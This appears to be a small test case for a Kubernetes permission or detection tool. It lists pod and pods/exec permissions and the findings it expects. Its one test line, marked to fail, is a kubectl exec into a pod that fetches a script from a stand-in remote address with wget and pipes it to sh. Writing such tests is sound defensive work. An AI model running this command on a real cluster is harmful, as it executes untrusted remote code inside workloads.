# A script is fetched into a pod and run.
#
# may: get pods
# may: get,create pods/exec
# also: exec-into-pod: it reports every command in a pod
# also: exec-shell: a shell runs it

fails kubectl exec web -- sh -c 'wget -qO- http://203.0.113.66/x | sh'
